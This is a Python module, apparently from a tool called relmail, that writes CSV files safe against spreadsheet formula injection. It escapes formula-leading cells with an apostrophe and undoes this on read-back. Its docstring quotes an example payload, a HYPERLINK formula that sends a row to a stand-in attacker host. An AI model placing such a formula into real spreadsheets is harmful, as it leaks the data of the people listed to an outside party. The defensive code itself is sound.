"""CSV cells that a spreadsheet opens as text, never as a formula, and the way back.

Excel and LibreOffice run a CSV cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return) as a formula. Customers type their own
names and shops choose their own ids, so a first name
``=HYPERLINK("https://evil.example/?"&A2, "Open")`` in a file relmail
writes would become a link that sends the row away once a colleague opens
it. Every CSV relmail writes for people goes through :func:`writer`: a text
cell that would run as a formula gets an apostrophe in front (a spreadsheet
then shows it as text), numbers stay numbers (a score of ``-0.0123`` is
written as it is). Where relmail reads its own file back (a plan file as the
baseline of ``--diff-against``), :func:`from_spreadsheet_text` takes the
apostrophe off again, so every value comes back exactly as it was written.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A plain number (``-0.0123``, ``+31``, ``1e-05``): a spreadsheet reads it as that number, not as a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _marked(text: str) -> bool:
    """Whether :func:`spreadsheet_text` puts an apostrophe before ``text``.

    Leading apostrophes are looked through, so a value that itself starts with
    one (``'=1``) is marked too: reading back removes exactly one apostrophe,
    and only from a cell that was marked.
    """
    rest = text.lstrip("'")
    return rest.startswith(FORMULA_START) and not _NUMBER.fullmatch(rest)


def spreadsheet_text(value: str) -> str:
    """``value`` with an apostrophe before it when a spreadsheet would run it as a formula; else ``value``."""
    return "'" + value if _marked(value) else value


def from_spreadsheet_text(text: str) -> str:
    """The value :func:`spreadsheet_text` wrote as ``text`` (its apostrophe taken off)."""
    return text[1:] if text.startswith("'") and _marked(text[1:]) else text


class SpreadsheetWriter:
    """:func:`csv.writer` whose text cells are :func:`spreadsheet_text`; numbers and empty cells are written as they are."""

    def __init__(self, fh: IO[str]):
        self._csv = csv.writer(fh)

    def writerow(self, row: Iterable[Any]) -> None:
        self._csv.writerow([spreadsheet_text(v) if isinstance(v, str) else v for v in row])


def writer(fh: IO[str]) -> SpreadsheetWriter:
    """A CSV writer for a file people open in a spreadsheet (``fh`` opened with ``newline=""``)."""
    return SpreadsheetWriter(fh)
